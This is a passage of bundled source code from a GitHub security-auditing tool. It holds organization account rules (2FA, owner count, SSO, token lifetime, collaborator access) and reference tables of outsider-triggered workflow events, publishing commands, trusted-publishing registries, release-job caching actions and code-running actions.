      const age = ageInDays(key2.createdAt, ctx.now) ?? 0;
      const problems = [
        !key2.readOnly && !ctx.options.allowWrite ? "has write access" : null,
        age > ctx.options.maxAgeDays ? `is ${age} days old (policy: ${ctx.options.maxAgeDays})` : null
      ].filter(Boolean);
      if (problems.length) results.push({ status: "fail", message: `deploy key "${key2.title}" (id ${key2.id}) ${problems.join(" and ")}` });
    }
    return results.length ? results : [{ status: "pass", message: `${fact.length} deploy key(s), all read-only and recent enough` }];
  }
});

// src/rules/accounts/org-support.ts
var ORG_OWNER_ACCESS = {
  token: "elevated",
  fineGrained: ["Administration: read (organization)", "Members: read (organization)"],
  note: "Organization owners only (classic PAT: admin:org / read:org). Pass an owner token or a GitHub App installation token as admin-token. On a repository owned by a personal account the rule is unknown (not applicable): disable it there."
};

// src/rules/accounts/org-base-permission.ts
var RANK = { none: 0, read: 1, write: 2, admin: 3 };
var orgBasePermission = defineRule({
  meta: {
    id: "org-base-permission",
    area: "accounts",
    severity: "high",
    title: "Organization base permission grants write or admin",
    rationale: "The base permission applies to every member on every repository; write or admin there makes every member account a path to every codebase.",
    remediation: "Organization settings > Member privileges > Base permissions: Read or No permission; grant write through teams.",
    references: ["SSC-10", "OSPS-AC-02.01", "Legitify: default_repository_permission_is_not_none", "CIS 1.3.8"],
    access: ORG_OWNER_ACCESS
  },
  needs: [ownerViewFact],
  defaultOptions: { max: "read" },
  strictOptions: { max: "none" },
  optionsSchema: { type: "object", properties: { max: { enum: ["none", "read"], description: "Highest acceptable base permission." } } },
  evaluate(ctx) {
    const org = ctx.need(ownerViewFact);
    const base = org.data.default_repository_permission;
    if (typeof base !== "string")
      return [{ status: "unknown", message: `GitHub did not return the base permission of ${org.login}`, permission: "Administration: read (organization)" }];
    if ((RANK[base] ?? 3) <= RANK[ctx.options.max]) return [{ status: "pass", message: `base permission of ${org.login} is ${base}` }];
    return [{ status: "fail", message: `base permission of ${org.login} is ${base}; the policy allows at most ${ctx.options.max}` }];
  }
});

// src/rules/accounts/org-fine-grained-pat-lifetime.ts
var orgFineGrainedPatLifetime = defineRule({
  meta: {
    id: "org-fine-grained-pat-lifetime",
    area: "accounts",
    severity: "medium",
    title: "Fine-grained tokens without expiry or with a long lifetime",
    rationale: "A token that never expires stays valid after its owner leaves or loses the laptop; short lifetimes bound the damage.",
    remediation: "Organization settings > Personal access tokens: require approval and set a maximum lifetime; revoke the listed tokens and have them reissued.",
    references: ["SSC-09", "CNCF SSCP: short-lived credentials"],
    access: {
      token: "elevated",
      fineGrained: ["Personal access tokens: read (organization, GitHub App only)"],
      note: "Only a GitHub App installation token can list them; the organization's PAT policy settings are not in the API."
    },
    baseline: false
  },
  needs: [fineGrainedTokensFact],
  defaultOptions: { maxLifetimeDays: 366 },
  optionsSchema: {
    type: "object",
    properties: { maxLifetimeDays: { type: "integer", minimum: 1, description: "Tokens expiring further away than this fail." } }
  },
  evaluate(ctx) {
    const fact = ctx.need(fineGrainedTokensFact);
    const limit = ctx.now.getTime() + ctx.options.maxLifetimeDays * 864e5;
    const bad = fact.filter((token) => !token.expired && (token.expiresAt === null || Date.parse(token.expiresAt) > limit));
    if (bad.length === 0)
      return [{ status: "pass", message: `${fact.length} approved fine-grained token(s), all expiring within ${ctx.options.maxLifetimeDays} days` }];
    return bad.map((token) => ({
      status: "fail",
      message: `fine-grained token ${token.name ? `"${token.name}" ` : ""}(id ${token.id}) of ${token.owner} ${token.expiresAt ? `expires ${token.expiresAt}` : "never expires"}`
    }));
  }
});

// src/rules/accounts/org-members-without-2fa.ts
var SHOWN = 50;
var orgMembersWithout2fa = defineRule({
  meta: {
    id: "org-members-without-2fa",
    area: "accounts",
    severity: "high",
    title: "Organization members or outside collaborators without 2FA",
    rationale: "Each account without a second factor is one phished password away from write access; the 2FA requirement removes them, so list them first.",
    remediation: "Ask the listed people to enable 2FA (or remove them), then require 2FA for the organization.",
    references: ["SSC-02", "GitHub guide: securing accounts (A6)", "OSPS-AC-01.01"],
    access: ORG_OWNER_ACCESS
  },
  needs: [membersWithout2faFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(membersWithout2faFact);
    const { members, outsideCollaborators: outsideCollaborators2 } = fact;
    const list = (users) => users.slice(0, SHOWN).map((user) => user.login).join(", ") + (users.length > SHOWN ? ` and ${users.length - SHOWN} more` : "");
    const results = [];
    if (members.length) results.push({ status: "fail", message: `${members.length} member(s) without 2FA: ${list(members)}` });
    if (outsideCollaborators2.length)
      results.push({ status: "fail", message: `${outsideCollaborators2.length} outside collaborator(s) without 2FA: ${list(outsideCollaborators2)}` });
    return results.length ? results : [{ status: "pass", message: "every member and outside collaborator has 2FA enabled" }];
  }
});

// src/rules/accounts/org-owner-count.ts
var orgOwnerCount = defineRule({
  meta: {
    id: "org-owner-count",
    area: "accounts",
    severity: "medium",
    title: "Organization owner count outside the policy bounds",
    rationale: "Owners can change every setting and bypass every protection; each is a high-value account. A single owner is a lock-out risk.",
    remediation: "Demote owners who do not need it (use teams and custom roles), or appoint a second owner.",
    references: ["SSC-10", "Legitify: organization_has_too_many_admins", "CIS 1.3.3"],
    access: ORG_OWNER_ACCESS
  },
  needs: [orgOwnersFact],
  defaultOptions: { min: 2, max: 5 },
  strictOptions: { max: 3 },
  optionsSchema: { type: "object", properties: { min: { type: "integer", minimum: 1 }, max: { type: "integer", minimum: 1 } } },
  evaluate(ctx) {
    const owners = ctx.need(orgOwnersFact);
    const count = owners.length;
    const names = owners.map((owner) => owner.login).join(", ");
    if (count > ctx.options.max) return [{ status: "fail", message: `${count} organization owners (${names}); the policy allows at most ${ctx.options.max}` }];
    if (count < ctx.options.min)
      return [{ status: "fail", message: `${count} organization owner(s) (${names}); the policy asks for at least ${ctx.options.min}` }];
    return [{ status: "pass", message: `${count} organization owners (${names})` }];
  }
});

// src/rules/accounts/org-public-repo-creation.ts
var orgPublicRepoCreation = defineRule({
  meta: {
    id: "org-public-repo-creation",
    area: "accounts",
    severity: "medium",
    title: "Members can create public repositories",
    rationale: "A member who creates a public repository (or a compromised member account) can publish internal code or secrets outside any review.",
    remediation: "Organization settings > Member privileges > Repository creation: untick Public.",
    references: ["SSC-10", "Legitify: non_admins_can_create_public_repositories", "CIS 1.2.2"],
    access: ORG_OWNER_ACCESS
  },
  needs: [ownerViewFact],
  defaultOptions: {},
  evaluate(ctx) {
    const org = ctx.need(ownerViewFact);
    const value = org.data.members_can_create_public_repositories;
    if (typeof value !== "boolean")
      return [
        {
          status: "unknown",
          message: `GitHub did not return who may create public repositories in ${org.login}`,
          permission: "Administration: read (organization)"
        }
      ];
    return value ? [{ status: "fail", message: `members of ${org.login} can create public repositories` }] : [{ status: "pass", message: `only owners can create public repositories in ${org.login}` }];
  }
});

// src/rules/accounts/org-saml-sso.ts
var orgSamlSso = defineRule({
  meta: {
    id: "org-saml-sso",
    area: "accounts",
    severity: "medium",
    title: "Organization does not use SAML single sign-on",
    rationale: "With SSO, access follows the identity provider: offboarding and MFA policy apply to GitHub too.",
    remediation: "Organization settings > Authentication security > Enable SAML authentication (GitHub Enterprise Cloud); if SSO is configured for the whole enterprise, set `enterpriseManaged: true`.",
    references: ["SSC-05", "GitHub guide: securing accounts (A1)", "Legitify: organization_not_using_single_sign_on"],
    access: { ...ORG_OWNER_ACCESS, note: `${ORG_OWNER_ACCESS.note} Read with one GraphQL query (organization.samlIdentityProvider).` },
    baseline: false
  },
  needs: [samlSsoFact],
  defaultOptions: { enterpriseManaged: false },
  optionsSchema: {
    type: "object",
    properties: { enterpriseManaged: { type: "boolean", description: "SSO is configured at the enterprise level (invisible to the organization API)." } }
  },
  evaluate(ctx) {
    const fact = ctx.need(samlSsoFact);
    if (fact.ssoUrl) return [{ status: "pass", message: `SAML SSO through ${fact.ssoUrl}` }];
    if (ctx.options.enterpriseManaged)
      return [{ status: "pass", message: "the organization has no SAML provider of its own; the policy says SSO is enforced by the enterprise" }];
    return [{ status: "fail", message: "the organization has no SAML identity provider (if the enterprise enforces SSO, set enterpriseManaged: true)" }];
  }
});

// src/rules/accounts/org-two-factor-required.ts
var orgTwoFactorRequired = defineRule({
  meta: {
    id: "org-two-factor-required",
    area: "accounts",
    severity: "high",
    title: "Organization does not require two-factor authentication",
    rationale: "A password alone is phished or reused every day; 2FA is, in GitHub's words, the best way to improve account security.",
    remediation: "Organization settings > Authentication security > Require two-factor authentication (after checking who lacks it: members without 2FA are removed).",
    references: [
      "SSC-01",
      "GitHub guide: securing accounts (A2, A6)",
      "OSPS-AC-01.01",
      "Legitify: two_factor_authentication_not_required_for_org",
      "CIS 1.3.5"
    ],
    access: ORG_OWNER_ACCESS
  },
  needs: [ownerViewFact],
  defaultOptions: {},
  evaluate(ctx) {
    const org = ctx.need(ownerViewFact);
    const required = org.data.two_factor_requirement_enabled;
    if (typeof required !== "boolean")
      return [{ status: "unknown", message: `GitHub did not return the 2FA requirement of ${org.login}`, permission: "Administration: read (organization)" }];
    return required ? [{ status: "pass", message: `${org.login} requires two-factor authentication` }] : [{ status: "fail", message: `${org.login} does not require two-factor authentication` }];
  }
});

// src/rules/accounts/outside-collaborators.ts
var outsideCollaborators = defineRule({
  meta: {
    id: "outside-collaborators",
    area: "accounts",
    severity: "high",
    title: "Outside collaborators with admin or write access",
    rationale: "Outside collaborators are outside the organization's SSO, 2FA policy reviews and offboarding; admin lets them change protection, write lets them push.",
    remediation: "Lower outside collaborators to read or triage, or make them members of a team under the organization's controls.",
    references: ["SSC-10", "Allstar: Outside Collaborators", "OSPS-AC-02.01"],
    access: {
      token: "elevated",
      fineGrained: ["Metadata: read", "Administration: read"],
      note: "GitHub lists collaborators to users with push access; organization repositories only (unknown, not applicable, for personal ones)."
    }
  },
  needs: [outsideCollaboratorsFact],
  defaultOptions: { allowWrite: true },
  strictOptions: { allowWrite: false },
  optionsSchema: { type: "object", properties: { allowWrite: { type: "boolean", description: "Accept outside collaborators with write (push) access." } } },
  evaluate(ctx) {
    const fact = ctx.need(outsideCollaboratorsFact);
    const admins = fact.filter((user) => user.permissions.admin || user.roleName === "admin");
    const writers = fact.filter(
      (user) => !admins.includes(user) && (user.permissions.maintain || user.permissions.push || user.roleName === "write" || user.roleName === "maintain")
    );
    const results = [];
    if (admins.length) results.push({ status: "fail", message: `outside collaborator(s) with admin: ${admins.map((user) => user.login).join(", ")}` });
    if (writers.length && !ctx.options.allowWrite)
      results.push({
        status: "fail",
        severity: "medium",
        message: `outside collaborator(s) with write: ${writers.map((user) => `${user.login} (${user.roleName || "write"})`).join(", ")}`
      });
    return results.length ? results : [{ status: "pass", message: `${fact.length} outside collaborator(s), none with ${ctx.options.allowWrite ? "admin" : "admin or write"}` }];
  }
});

// src/rules/accounts/index.ts
var accountsRules = [
  orgTwoFactorRequired,
  orgMembersWithout2fa,
  orgBasePermission,
  orgOwnerCount,
  orgPublicRepoCreation,
  orgSamlSso,
  orgFineGrainedPatLifetime,
  outsideCollaborators,
  deployKeys
];

// src/rules/artifacts/index.ts
var artifactsRules = [];

// src/workflow/model.ts
import path9 from "node:path";

// src/workflow/data/events.ts
var OUTSIDER_EVENTS = [
  { event: "pull_request", privileged: false, why: "anyone can open a pull request from a fork; it runs with a read-only token and no secrets" },
  { event: "pull_request_target", privileged: true, why: "a fork's pull request runs the base branch's workflow with its secrets and a write token" },
  { event: "pull_request_review", privileged: false, why: "anyone can review a pull request; fork pull requests get a read-only token" },
  { event: "pull_request_review_comment", privileged: false, why: "anyone can comment on a pull request diff; fork pull requests get a read-only token" },
  { event: "issue_comment", privileged: true, why: "anyone can comment on an issue or pull request; runs on the default branch with its secrets" },
  { event: "issues", privileged: true, why: "anyone can open or edit an issue; runs on the default branch with its secrets" },
  { event: "discussion", privileged: true, why: "anyone can start a discussion; runs on the default branch with its secrets" },
  { event: "discussion_comment", privileged: true, why: "anyone can comment on a discussion; runs on the default branch with its secrets" },
  { event: "fork", privileged: false, why: "anyone can fork a public repository" },
  { event: "watch", privileged: false, why: "anyone can star a public repository" },
  {
    event: "workflow_run",
    privileged: true,
    why: "follows a workflow an outsider may have started (e.g. on pull_request), with the base repository's secrets"
  },
  { event: "merge_group", privileged: false, why: "a fork's pull request reaches the merge queue once a maintainer queues it, and its code runs" }
];

// src/workflow/data/known.ts
function byAction(list) {
  return new Map(list.map((entry2) => [entry2.action, entry2]));
}
function anyCommand(list) {
  return new RegExp(list.map((entry2) => entry2.command.source).join("|"));
}
function actionPattern(list) {
  const alternatives = list.map((entry2) => entry2.action.replace(/[.+?^${}()|[\]\\]/g, "\\$&").replace(/\*/g, String.raw`[\w-]+`));
  return new RegExp(`^(?:${alternatives.join("|")})$`, "i");
}

// src/workflow/data/publishing.ts
var PUBLISHING_ACTIONS = [
  { action: "pypa/gh-action-pypi-publish", note: "uploads Python distributions to PyPI" },
  { action: "softprops/action-gh-release", note: "creates a GitHub release and uploads assets" },
  { action: "ncipollo/release-action", note: "creates a GitHub release and uploads assets" },
  { action: "actions/create-release", note: "creates a GitHub release (archived)" },
  { action: "actions/upload-release-asset", note: "uploads a GitHub release asset (archived)" },
  { action: "goreleaser/goreleaser-action", note: "builds and publishes releases with GoReleaser" },
  { action: "js-devtools/npm-publish", note: "publishes to npm" },
  { action: "svenstaro/upload-release-action", note: "uploads GitHub release assets" },
  { action: "actions/deploy-pages", note: "deploys GitHub Pages" },
  { action: "peaceiris/actions-gh-pages", note: "pushes a GitHub Pages branch" },
  { action: "jamesives/github-pages-deploy-action", note: "pushes a GitHub Pages branch" },
  { action: "rust-lang/crates-io-auth-action", note: "mints a crates.io publishing token (trusted publishing)" },
  { action: "actions/attest-build-provenance", note: "signs build provenance" },
  { action: "actions/attest", note: "signs attestations" },
  { action: "changesets/action", note: "versions and publishes packages" },
  { action: "cycjimmy/semantic-release-action", note: "runs semantic-release (tags, releases, publishes)" },
  { action: "googleapis/release-please-action", note: "creates releases and tags" },
  { action: "release-drafter/release-drafter", note: "drafts (and can publish) GitHub releases" },
  { action: "sigstore/gh-action-sigstore-python", note: "signs artifacts with Sigstore" }
];
var PUBLISH_COMMANDS = [
  {
    command: /\b(npm|pnpm|yarn|bun)\s+(publish|npm\s+publish)\b/,
    note: "npm-registry publishing by npm, pnpm, Yarn (`yarn npm publish`) and Bun",
    source: "https://docs.npmjs.com/cli/commands/npm-publish"
  },
  { command: /\btwine\s+upload\b/, note: "uploads to PyPI", source: "https://twine.readthedocs.io/en/stable/" },
  { command: /\bcargo\s+publish\b/, note: "publishes to crates.io", source: "https://doc.rust-lang.org/cargo/commands/cargo-publish.html" },
  { command: /\bgem\s+push\b/, note: "publishes to RubyGems", source: "https://guides.rubygems.org/command-reference/#gem-push" },
  { command: /\bdocker\s+(?:image\s+)?push\b/, note: "pushes an image", source: "https://docs.docker.com/reference/cli/docker/image/push/" },
  {
    command: /\bdocker\s+buildx\s+build\b[^\n]*--push\b/,
    note: "builds and pushes an image",
    source: "https://docs.docker.com/reference/cli/docker/buildx/build/"
  },
  { command: /\bgh\s+release\s+(create|upload)\b/, note: "creates a GitHub release or uploads assets", source: "https://cli.github.com/manual/gh_release" },
  { command: /\bgoreleaser\s+release\b/, note: "builds and publishes a release", source: "https://goreleaser.com/cmd/goreleaser_release/" },
  { command: /\bmvn\b[^\n]*\bdeploy\b/, note: "deploys Maven artifacts to a repository", source: "https://maven.apache.org/plugins/maven-deploy-plugin/" },
  { command: /\bgradlew?\b[^\n]*\bpublish\w*\b/, note: "Gradle publishing tasks", source: "https://docs.gradle.org/current/userguide/publishing_setup.html" },
  { command: /\b(dotnet\s+)?nuget\s+push\b/, note: "publishes to NuGet", source: "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-nuget-push" },
  {
    command: /\b(poetry|uv|hatch|flit|pdm)\s+publish\b/,
    note: "Python build tools that upload to PyPI",
    source: "https://packaging.python.org/en/latest/guides/section-build-and-publish/"
  },
  {
    command: /\bvsce\s+publish\b/,
    note: "publishes a VS Code extension",
    source: "https://code.visualstudio.com/api/working-with-extensions/publishing-extension"
  },
  { command: /\bovsx\s+publish\b/, note: "publishes to Open VSX", source: "https://github.com/eclipse/openvsx/wiki/Publishing-Extensions" },
  { command: /\bhelm\s+push\b/, note: "pushes a Helm chart", source: "https://helm.sh/docs/topics/registries/" },
  { command: /\bsemantic-release\b/, note: "tags, releases and publishes", source: "https://semantic-release.gitbook.io/semantic-release/" },
  { command: /\bcosign\s+sign\b/, note: "signs an image or blob", source: "https://docs.sigstore.dev/cosign/signing/overview/" },
  { command: /\bjreleaser\b/, note: "releases and publishes Java projects", source: "https://jreleaser.org/guide/latest/" }
];
var RELEASE_SECRET_ACTIONS = [
  { action: "pypa/gh-action-pypi-publish", note: "uploads to PyPI (token or OIDC)" },
  { action: "softprops/action-gh-release", note: "creates a GitHub release" },
  { action: "goreleaser/goreleaser-action", note: "publishes releases" },
  { action: "rubygems/release-gem", note: "publishes to RubyGems" },
  { action: "ncipollo/release-action", note: "creates a GitHub release" },
  { action: "js-devtools/npm-publish", note: "publishes to npm with a token" },
  { action: "changesets/action", note: "publishes packages" }
];
var RELEASE_SECRET_COMMANDS = [
  { command: /\b(npm|pnpm|yarn)\s+(npm\s+)?publish\b/, note: "publishes to the npm registry", source: "https://docs.npmjs.com/cli/commands/npm-publish" },
  { command: /\btwine\s+upload\b/, note: "uploads to PyPI", source: "https://twine.readthedocs.io/en/stable/" },
  {
    command: /\b(uv|poetry|flit|hatch|pdm)\s+publish\b/,
    note: "Python build tools that upload to PyPI",
    source: "https://packaging.python.org/en/latest/guides/section-build-and-publish/"
  },
  { command: /\bcargo\s+publish\b/, note: "publishes to crates.io", source: "https://doc.rust-lang.org/cargo/commands/cargo-publish.html" },
  { command: /\bgem\s+push\b/, note: "publishes to RubyGems", source: "https://guides.rubygems.org/command-reference/#gem-push" },
  { command: /\bdotnet\s+nuget\s+push\b/, note: "publishes to NuGet", source: "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-nuget-push" },
  { command: /\bdocker\s+(image\s+)?push\b/, note: "pushes an image", source: "https://docs.docker.com/reference/cli/docker/image/push/" },
  { command: /\bgh\s+release\s+(create|upload)\b/, note: "creates a GitHub release or uploads assets", source: "https://cli.github.com/manual/gh_release" },
  { command: /\bgoreleaser\b/, note: "GoReleaser", source: "https://goreleaser.com/cmd/goreleaser_release/" },
  { command: /\bmvn\b[^\n]*\bdeploy\b/, note: "deploys Maven artifacts", source: "https://maven.apache.org/plugins/maven-deploy-plugin/" },
  { command: /\bgradlew?\b[^\n]*\bpublish/, note: "Gradle publishing tasks", source: "https://docs.gradle.org/current/userguide/publishing_setup.html" }
];
var TRUSTED_PUBLISHING_REGISTRIES = [
  {
    registry: "npm",
    hosts: /(^|\/\/)registry\.(npmjs\.org|yarnpkg\.com)\b/i,
    tokenEnv: /^(NODE_AUTH_TOKEN|NPM_TOKEN|NPM_AUTH_TOKEN|NPM_CONFIG__AUTH_?TOKEN|YARN_NPM_AUTH_TOKEN|BUN_AUTH_TOKEN)$/i,
    instead: "npm trusted publishing (`id-token: write`, `npm publish` with npm >= 11.5.1 and no token)",
    source: "https://docs.npmjs.com/trusted-publishers"
  },
  {
    registry: "PyPI",
    hosts: /^(pypi|testpypi)$|(^|\/\/)(upload\.)?(test\.)?pypi\.org\b/i,
    tokenEnv: /^(TWINE_PASSWORD|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|MATURIN_PYPI_TOKEN|MATURIN_PASSWORD|POETRY_PYPI_TOKEN_\w+|POETRY_HTTP_BASIC_PYPI_PASSWORD|FLIT_PASSWORD|HATCH_INDEX_AUTH|PDM_PUBLISH_PASSWORD|PYPI_TOKEN|PYPI_API_TOKEN)$/i,
    instead: "PyPI trusted publishing (`id-token: write` and pypa/gh-action-pypi-publish, `uv publish` or `twine upload` without a password)",
    source: "https://docs.pypi.org/trusted-publishers/"
  },
  {
    registry: "RubyGems",
    hosts: /(^|\/\/)rubygems\.org\b/i,
    tokenEnv: /^(GEM_HOST_API_KEY|RUBYGEMS_API_KEY|RUBYGEMS_AUTH_TOKEN)$/i,
    instead: "RubyGems trusted publishing (`id-token: write` and rubygems/release-gem, or rubygems/configure-rubygems-credentials with `role-to-assume`)",
    source: "https://guides.rubygems.org/trusted-publishing/"
  },
  {
    registry: "crates.io",
    hosts: /^crates-io$|(^|\/\/)crates\.io\b/i,
    tokenEnv: /^(CARGO_REGISTRY_TOKEN|CARGO_REGISTRIES_CRATES_IO_TOKEN|CRATES_IO_TOKEN)$/i,
    instead: "crates.io trusted publishing (`id-token: write` and rust-lang/crates-io-auth-action)",
    source: "https://crates.io/docs/trusted-publishing"
  },
  {
    registry: "NuGet",
    hosts: /^nuget\.org$|(^|\/\/)(api\.|www\.)?nuget\.org\b/i,
    tokenEnv: /^(NUGET_API_KEY|NUGET_AUTH_TOKEN|NUGET_KEY|NUGET_TOKEN)$/i,
    instead: "NuGet trusted publishing (`id-token: write` and NuGet/login)",
    source: "https://learn.microsoft.com/en-us/nuget/nuget-org/trusted-publishing"
  }
];
var TRUSTED_PUBLISHING_ACTIONS = [
  {
    action: "pypa/gh-action-pypi-publish",
    registry: "PyPI",
    credentials: ["password"],
    registryInput: "repository-url",
    note: "uploads to PyPI with OIDC, or a token in `password:`"
  },
  {
    action: "pyo3/maturin-action",
    registry: "PyPI",
    credentials: [],
    credentialEnv: /^(MATURIN_PYPI_TOKEN|MATURIN_PASSWORD)$/i,
    only: { input: "command", values: /^(upload|publish)$/ },
    note: "`command: upload` uploads to PyPI with OIDC, or MATURIN_PYPI_TOKEN"
  },
  {
    action: "rubygems/release-gem",
    registry: "RubyGems",
    credentials: ["api-key"],
    credentialEnv: /^(GEM_HOST_API_KEY|RUBYGEMS_API_KEY)$/i,
    disablesOidc: "setup-trusted-publisher",
    note: "pushes a gem with OIDC unless `setup-trusted-publisher: false`"
  },
  {
    action: "rubygems/configure-rubygems-credentials",
    registry: "RubyGems",
    credentials: ["api-token"],
    registryInput: "gem-server",
    note: "sets RubyGems credentials from OIDC (`role-to-assume`) or an `api-token:`"
  },
  {
    action: "cadwallion/publish-rubygems-action",
    registry: "RubyGems",
    credentials: [],
    credentialEnv: /^RUBYGEMS_API_KEY$/i,
    note: "pushes a gem with RUBYGEMS_API_KEY"
  },
  { action: "dawidd6/action-publish-gem", registry: "RubyGems", credentials: ["api_key"], note: "pushes a gem with an `api_key:`" },
  { action: "js-devtools/npm-publish", registry: "npm", credentials: ["token"], note: "publishes to npm with a `token:`" },
  { action: "katyo/publish-crates", registry: "crates.io", credentials: ["registry-token"], note: "publishes crates with a `registry-token:`" },
  { action: "brandedoutcast/publish-nuget", registry: "NuGet", credentials: ["NUGET_KEY", "nuget_key"], note: "pushes NuGet packages with `NUGET_KEY`" },
  { action: "alirezanet/publish-nuget", registry: "NuGet", credentials: ["NUGET_KEY", "nuget_key"], note: "pushes NuGet packages with `NUGET_KEY`" }
];
var LONG_LIVED_CREDENTIAL_INPUTS = [
  {
    action: "aws-actions/configure-aws-credentials",
    input: "aws-secret-access-key",
    note: "configure-aws-credentials uses a long-lived AWS access key; use `role-to-assume` with OIDC (`id-token: write`)"
  },
  {
    action: "google-github-actions/auth",
    input: "credentials_json",
    note: "google-github-actions/auth uses a service account JSON key; use `workload_identity_provider` (Workload Identity Federation)"
  },
  { action: "azure/login", input: "creds", note: "azure/login uses a client secret (`creds:`); use `client-id`/`tenant-id`/`subscription-id` with OIDC" }
];

// src/workflow/data/bot-ids.ts
var BOT_IDS = /* @__PURE__ */ new Map([
  [49699333, "dependabot[bot]"],
  [41898282, "github-actions[bot]"],
  [29139614, "renovate[bot]"]
]);

// src/workflow/data/caches.ts
var NO_CACHE = "cache: ''   # no cache in release jobs";
var CACHING_ACTIONS = [
  {
    action: "actions/cache",
    kind: "opt-out",
    input: "lookup-only",
    defaultFrom: 0,
    fix: "Remove the cache step from release jobs (or use actions/cache/save only, never restore).",
    note: "restores and saves a cache"
  },
  {
    action: "actions/cache/restore",
    kind: "opt-out",
    input: "lookup-only",
    defaultFrom: 0,
    fix: "Remove the cache restore from release jobs.",
    note: "restores a cache"
  },
  {
    action: "actions/setup-node",
    kind: "opt-in",
    input: "cache",
    defaultFrom: 5,
    defaultInput: "package-manager-cache",
    defaultWhen: "when package.json names npm as its package manager",
    fix: NO_CACHE,
    note: "caches the package manager store with `cache:`, npm by default from v5",
    source: "https://github.com/actions/setup-node/releases/tag/v5.0.0"
  },
  { action: "actions/setup-python", kind: "opt-in", input: "cache", fix: NO_CACHE, note: "caches pip/pipenv/poetry downloads with `cache:`" },
  { action: "actions/setup-java", kind: "opt-in", input: "cache", fix: NO_CACHE, note: "caches Maven/Gradle/sbt dependencies with `cache:`" },
  { action: "actions/setup-dotnet", kind: "opt-in", input: "cache", onValues: /^true$/i, fix: NO_CACHE, note: "caches NuGet packages with `cache: true`" },
  {
    action: "actions/setup-go",
    kind: "opt-in",
    input: "cache",
    defaultFrom: 4,
    fix: "cache: false",
    note: "caches Go modules and build outputs, by default from v4"
  },
  {
    action: "astral-sh/setup-uv",
    kind: "opt-in",
    input: "enable-cache",
    defaultFrom: 5,
    fix: "enable-cache: false",
    note: "caches uv downloads, by default on GitHub-hosted runners from v5",
    source: "https://github.com/astral-sh/setup-uv/releases/tag/v5.0.0"
  },
  {
    action: "oven-sh/setup-bun",
    kind: "opt-out",
    input: "no-cache",
    defaultFrom: 0,
    fix: "no-cache: true",
    note: "caches the bun executable unless `no-cache: true`"
  },
  {
    action: "swatinem/rust-cache",
    kind: "opt-out",
    input: "lookup-only",
    defaultFrom: 0,
    fix: "Remove Swatinem/rust-cache from release jobs.",
    note: "caches Cargo registry and target folders"
  },
  {
    action: "pyo3/maturin-action",
    kind: "opt-in",
    input: "sccache",
    onValues: /^true$/i,
    fix: "sccache: false",
    note: "compiler cache (sccache) in the Actions cache with `sccache: true`"
  },
  {
    action: "ramsey/composer-install",
    kind: "opt-out",
    input: "ignore-cache",
    defaultFrom: 0,
    fix: "ignore-cache: 'yes'",
    note: "caches Composer dependencies unless `ignore-cache`"
  },
  {
    action: "ruby/setup-ruby",
    kind: "opt-in",
    input: "bundler-cache",
    onValues: /^true$/i,
    fix: "bundler-cache: false",
    note: "runs bundle install and caches gems with `bundler-cache: true`"
  },
  {
    action: "gradle/actions/setup-gradle",
    kind: "opt-out",
    input: "cache-disabled",
    defaultFrom: 0,
    fix: "cache-disabled: true",
    note: "caches Gradle home by default"
  },
  {
    action: "gradle/gradle-build-action",
    kind: "opt-out",
    input: "cache-disabled",
    defaultFrom: 0,
    fix: "cache-disabled: true",
    note: "caches Gradle home by default (older name)"
  },
  { action: "jdx/mise-action", kind: "opt-in", input: "cache", defaultFrom: 0, fix: "cache: false", note: "caches installed tools by default" },
  {
    action: "mozilla-actions/sccache-action",
    kind: "always",
    fix: "Do not restore caches in jobs that build or publish releases.",
    note: "compiler cache in the Actions cache"
  },
  {
    action: "hendrikmuhs/ccache-action",
    kind: "always",
    fix: "Do not restore caches in jobs that build or publish releases.",
    note: "compiler cache in the Actions cache"
  },
  { action: "useblacksmith/cache", kind: "always", fix: "Remove the cache step from release jobs.", note: "drop-in replacement of actions/cache" },
  { action: "buildjet/cache", kind: "always", fix: "Remove the cache step from release jobs.", note: "drop-in replacement of actions/cache" },
  {
    action: "determinatesystems/magic-nix-cache-action",
    kind: "always",
    fix: "Remove the Nix cache from release jobs.",
    note: "Nix store cache in the Actions cache"
  },
  {
    action: "docker/build-push-action",
    kind: "opt-in",
    input: "cache-from",
    onValues: /type=gha/,
    fix: "Remove `cache-from: type=gha` in release jobs.",
    note: "reads build layers from the Actions cache with `cache-from: type=gha`"
  }
];

// src/workflow/data/code-execution.ts
var CODE_INPUT_ACTIONS = [
  { action: "actions/github-script", inputs: ["script"], language: "javascript", note: "runs `script:` as JavaScript with an authenticated client" },
  { action: "azure/cli", inputs: ["inlinescript"], language: "shell", note: "runs `inlineScript:` in the Azure CLI container" },
  { action: "azure/powershell", inputs: ["inlinescript"], language: "shell", note: "runs `inlineScript:` in Azure PowerShell" },
  { action: "appleboy/ssh-action", inputs: ["script"], language: "shell", note: "runs `script:` on a remote host over SSH" },
  { action: "nick-fields/retry", inputs: ["command"], language: "shell", note: "runs `command:` in a shell, with retries" },
  { action: "nick-invision/retry", inputs: ["command"], language: "shell", note: "old name of nick-fields/retry" },
  { action: "wandalen/wretry.action", inputs: ["command"], language: "shell", note: "runs `command:` with retries" },
  { action: "addnab/docker-run-action", inputs: ["run"], language: "shell", note: "runs `run:` inside a container" },
  { action: "jannekem/run-python-script-action", inputs: ["script"], language: "shell", note: "runs `script:` as Python" },
  { action: "cypress-io/github-action", inputs: ["build", "start", "command"], language: "shell", note: "runs `build:`, `start:` and `command:` in a shell" },
  { action: "mathiasvr/command-output", inputs: ["run"], language: "shell", note: "runs `run:` in a shell and captures its output" },
  { action: "mikefarah/yq", inputs: ["cmd"], language: "shell", note: "runs `cmd:` with the container's shell" },
  {
    action: "tibdex/backport",
    inputs: ["title_template", "body_template"],
    language: "javascript",
    note: "`title_template:` / `body_template:` are lodash templates (`<%= %>` runs JavaScript)"
  },
  { action: "amadevus/pwsh-script", inputs: ["script"], language: "shell", note: "runs `script:` as PowerShell" },
  {
    action: "cardinalby/js-eval-action",
    inputs: ["expression"],
    language: "javascript",
    note: "evaluates `expression:` as JavaScript (a github-script variant)"
  },
  { action: "amochkin/action-javascript", inputs: ["js"], language: "javascript", note: "runs `js:` as JavaScript (a github-script variant)" },
  {
    action: "stacks-sbtc/actions/github-script",
    inputs: ["script"],
    language: "javascript",
    note: "runs `script:` as JavaScript (a github-script variant)",
    source: "https://github.com/stacks-sbtc/actions"
  },
